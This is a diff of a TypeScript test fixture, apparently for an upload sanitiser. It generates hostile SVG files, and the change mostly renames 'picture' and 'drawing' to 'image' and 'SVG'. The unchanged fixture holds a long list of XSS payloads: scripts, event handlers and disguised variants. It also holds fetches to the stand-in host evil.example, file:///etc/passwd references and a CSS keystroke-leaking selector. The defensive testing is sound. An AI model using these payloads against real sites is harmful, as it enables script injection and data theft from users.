@@ -3,9 +3,9 @@ import type { HostileFile } from './hostile-file.ts';
 const evil = 'https://evil.example';
 const code = 'alert(document.domain)';
 const shape = '<rect width="9" height="9"/>';
-const picture = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`).toString('base64')}`;
+const image = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`).toString('base64')}`;
 
-/** What stands inside a drawing next to a shape. */
+/** The content of the SVGs, next to a shape. */
 const bodies: readonly [string, string][] = [
   ['a script', `<script>${code}</script>`],
   ['a script of another type', `<script type="application/ecmascript">${code}</script>`],
@@ -26,7 +26,7 @@ const bodies: readonly [string, string][] = [
     `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${code}</h:script>`,
   ],
   [
-    'a picture of HTML that is not there',
+    'an image of HTML that is not there',
     `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${code}"/>`,
   ],
   [
@@ -43,7 +43,7 @@ const bodies: readonly [string, string][] = [
     'an onload with a prefix',
     `<g xmlns:a="http://www.w3.org/2000/svg" a:onload="${code}">${shape}</g>`,
   ],
-  ['an onload in an inner drawing', `<svg onload="${code}">${shape}</svg>`],
+  ['an onload in an inner SVG', `<svg onload="${code}">${shape}</svg>`],
   ['an onclick', `<rect width="9" height="9" onclick="${code}"/>`],
   ['an onfocusin', `<rect width="9" height="9" tabindex="0" autofocus="" onfocusin="${code}"/>`],
   ['an onmouseover with entities', `<rect width="9" height="9" onmouseover="&#97;&#x6c;ert(1)"/>`],
@@ -55,7 +55,7 @@ const bodies: readonly [string, string][] = [
   ],
   ['an onbegin of a motion', `<animateMotion onbegin="${code}" dur="1s" path="M0 0"/>`],
   ['an onbegin of a discard', `<discard onbegin="${code}"/>`],
-  ['an onerror of a picture', `<image href="x:" onerror="${code}"/>`],
+  ['an onerror of an image', `<image href="x:" onerror="${code}"/>`],
   ['an event that comes later', `<rect width="9" height="9" onpointerrawupdate="${code}"/>`],
   [
     'a listener of XML events',
@@ -98,29 +98,29 @@ const bodies: readonly [string, string][] = [
     `<rect width="9" height="9"><set attributeName="onclick" to="${code}"/></rect>`,
   ],
   [
-    'an animated picture',
+    'an animated image',
     `<image href="#"><animate attributeName="href" to="${evil}/x.png"/></image>`,
   ],
   [
     'an animated style',
     `<rect width="9" height="9"><set attributeName="style" to="fill:url(${evil})"/></rect>`,
   ],
-  ['a picture elsewhere', `<image href="${evil}/x.png" width="9" height="9"/>`],
+  ['an image elsewhere', `<image href="${evil}/x.png" width="9" height="9"/>`],
   [
-    'a picture elsewhere, the old way',
+    'an image elsewhere, the old way',
     `<image xlink:href="//evil.example/x.png" width="9" height="9"/>`,
   ],
-  ['a picture on this machine', `<image href="file:///etc/passwd" width="9" height="9"/>`],
-  ['a picture beside it', `<image href="../../admin" width="9" height="9"/>`],
-  ['a picture that is a drawing with a script', `<image href="${picture}" width="9" height="9"/>`],
-  ['a picture that is a page', `<image href="data:text/html,${code}" width="9" height="9"/>`],
-  ['a picture with sources', `<image href="#" srcset="${evil}/x.png 2x"/>`],
-  ['a use of a drawing elsewhere', `<use href="${evil}/x.svg#a"/>`],
-  ['a use of a drawing in itself', `<use href="${picture}#a"/>`],
-  ['a use of a drawing beside it', `<use xlink:href="/media/other.svg#a"/>`],
+  ['an image on this machine', `<image href="file:///etc/passwd" width="9" height="9"/>`],
+  ['an image beside it', `<image href="../../admin" width="9" height="9"/>`],
+  ['an image that is an SVG with a script', `<image href="${image}" width="9" height="9"/>`],
+  ['an image that is a page', `<image href="data:text/html,${code}" width="9" height="9"/>`],
+  ['an image with sources', `<image href="#" srcset="${evil}/x.png 2x"/>`],
+  ['a use of an SVG elsewhere', `<use href="${evil}/x.svg#a"/>`],
+  ['a use of an SVG in itself', `<use href="${image}#a"/>`],
+  ['a use of an SVG beside it', `<use xlink:href="/media/other.svg#a"/>`],
   ['a pattern elsewhere', `<pattern id="p" xlink:href="${evil}/x.svg#p"/>`],
   ['a gradient elsewhere', `<linearGradient id="g" href="${evil}/x.svg#g"/>`],
-  ['a filter with a picture elsewhere', `<filter id="f"><feImage href="${evil}/x.png"/></filter>`],
+  ['a filter with an image elsewhere', `<filter id="f"><feImage href="${evil}/x.png"/></filter>`],
   ['text along a path elsewhere', `<text><textPath href="${evil}/x.svg#t">t</textPath></text>`],
   ['text from elsewhere', `<text><tref xlink:href="file:///etc/passwd"/></text>`],
   [
@@ -151,10 +151,7 @@ const bodies: readonly [string, string][] = [
   ['a style with an address', `<style>rect{fill:url(${evil}/x.svg#a)}</style>`],
   ['a style with an address in disguise', `<style>rect{fill:u\\72 l(${evil}/x.svg#a)}</style>`],
   ['a style with a font', `<style>@font-face{font-family:a;src:url(${evil}/x.woff)}</style>`],
-  [
-    'a style with a set of pictures',
-    `<style>rect{background:image-set("${evil}/x.png" 1x)}</style>`,
-  ],
+  ['a style with a set of images', `<style>rect{background:image-set("${evil}/x.png" 1x)}</style>`],
   ['a style that reads what is typed', `<style>input[value^=a]{background:url(${evil}/a)}</style>`],
   ['a style with an expression', `<style>rect{width:expression(${code})}</style>`],
   [
@@ -164,7 +161,7 @@ const bodies: readonly [string, string][] = [
   ['a style that covers the page', `<style>*{position:fixed;inset:0;z-index:9999}</style>`],
   ['a style that ends early', `<style><![CDATA[</style><script>${code}</script>]]></style>`],
   [
-    'a style with a picture of HTML',
+    'a style with an image of HTML',
     `<style>&lt;/style&gt;&lt;img src=x onerror=${code}&gt;</style>`,
   ],
   ['an attribute of style', `<rect width="9" height="9" style="fill:url(${evil}/x.svg#a)"/>`],
@@ -229,15 +226,15 @@ const bodies: readonly [string, string][] = [
   ],
 ];
 
-/** Drawings with something in them that a browser would run or fetch. */
+/** Builds SVGs with content that a browser would run or fetch. */
 export function scriptedSvgs(): HostileFile[] {
   return bodies.map(([what, body]) => ({
-    name: `drawing: ${what}`,
+    name: `SVG: ${what}`,
     bytes: Buffer.from(
       `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${shape}${body}</svg>`,
     ),
-    fileName: 'drawing.svg',
+    fileName: 'image.svg',
     mayBeTaken: true,
-    about: 'Opened by its address, a drawing is a document of this site.',
+    about: 'Opened by its address, an SVG is a document of this site.',
   }));
 }
